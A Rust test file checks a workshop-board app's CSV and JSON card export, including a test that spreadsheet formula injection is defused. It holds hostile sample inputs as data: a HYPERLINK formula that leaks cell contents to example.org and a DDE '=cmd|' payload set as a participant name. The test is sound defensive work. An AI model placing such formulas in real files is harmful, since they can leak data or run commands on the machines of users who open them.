//! The harvest as CSV: one row per exported card (the revealed private one too, the
//! unrevealed never), RFC 4180, as a spreadsheet library reads it, with each card's
//! phase, kind, author, label and marks in their columns.

use ovaal_tests::harvest_fixture::{
    ADVICE, MARKUP, NO_PHASE, Q_ARABIC, Q_LINES, Q_QUOTES, REVEALED, card_texts, export_ok,
    incident_session, text,
};

#[tokio::test]
async fn csv_has_a_row_per_card_with_its_marks() -> anyhow::Result<()> {
    let board = incident_session().await?;
    let texts = card_texts(&export_ok(&board, "json").await?.json()?)?;
    let csv_response = export_ok(&board, "csv").await?;
    assert!(
        csv_response
            .header("content-type")
            .is_some_and(|t| t.starts_with("text/csv"))
    );
    let mut reader = csv::Reader::from_reader(csv_response.body.as_slice());
    let header: Vec<String> = reader.headers()?.iter().map(str::to_owned).collect();
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}"))
    };
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
    assert_eq!(
        rows.len(),
        texts.len() + 1,
        "every card and the revealed private one"
    );
    let row = |t: &str| {
        rows.iter()
            .find(|r| &r[col("text")] == t)
            .unwrap_or_else(|| panic!("no row for {t:?}"))
    };
    assert_eq!(&row(Q_QUOTES)[col("label")], "warm");
    assert_eq!(&row(Q_QUOTES)[col("phase_id")], "questions");
    assert_eq!(&row(Q_QUOTES)[col("phase")], "Question round");
    assert_eq!(&row(Q_QUOTES)[col("author")], "Bram");
    assert_eq!(&row(Q_LINES)[col("kind")], "question");
    assert_eq!(&row(ADVICE)[col("useful")], "true");
    assert_eq!(&row(MARKUP)[col("useful")], "false");
    assert_eq!(&row(REVEALED)[col("private")], "true");
    assert_eq!(&row(NO_PHASE)[col("phase")], "Other cards");
    assert_eq!(&row(Q_ARABIC)[col("author")], "سارا");
    assert!(!text(&csv_response).contains("GEHEIM"));
    Ok(())
}

/// Cards a spreadsheet would run as formulas: each must come out as text.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Klik hier\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
];

#[tokio::test]
async fn formulas_are_defused_in_the_csv_and_kept_in_the_json() -> anyhow::Result<()> {
    use ovaal_shared::board::CardKind;
    use ovaal_tests::{ProtocolClient, TestServer};

    let server = TestServer::start().await?;
    let session = server.create_session("Leerkring").await?;
    let mut mallory =
        ProtocolClient::connect(&server.ws_url(&session.id), &session.participant).await?;
    mallory.join_table("=cmd|'/C calc'!A0", 1).await?;
    for formula in FORMULAS {
        mallory.add_card(CardKind::Question, formula).await?;
    }
    mallory.add_card(CardKind::Question, "-5").await?;
    mallory.round_trip().await?;

    let csv_response =
        ovaal_tests::harvest_fixture::export(&server, &session, "csv", &session.facilitator)
            .await?;
    assert_eq!(csv_response.status, 200);
    let mut reader = csv::Reader::from_reader(csv_response.body.as_slice());
    let header: Vec<String> = reader.headers()?.iter().map(str::to_owned).collect();
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
    let texts: Vec<&str> = rows.iter().map(|r| &r[col("text")]).collect();
    for formula in FORMULAS {
        let defused = format!("'{formula}");
        assert!(
            texts.contains(&defused.as_str()),
            "{formula:?} is not defused: {texts:?}"
        );
    }
    assert!(texts.contains(&"-5"), "a number stays a number: {texts:?}");
    for row in &rows {
        assert_eq!(&row[col("author")], "'=cmd|'/C calc'!A0", "the name too");
        assert!(!row[col("x")].starts_with('\''), "positions stay numbers");
    }

    let json =
        ovaal_tests::harvest_fixture::export(&server, &session, "json", &session.facilitator)
            .await?;
    assert_eq!(json.status, 200);
    let texts = ovaal_tests::harvest_fixture::card_texts(&json.json()?)?;
    for formula in FORMULAS {
        assert!(
            texts.iter().any(|t| t == formula),
            "the JSON keeps {formula:?} exactly: {texts:?}"
        );
    }
    Ok(())
}
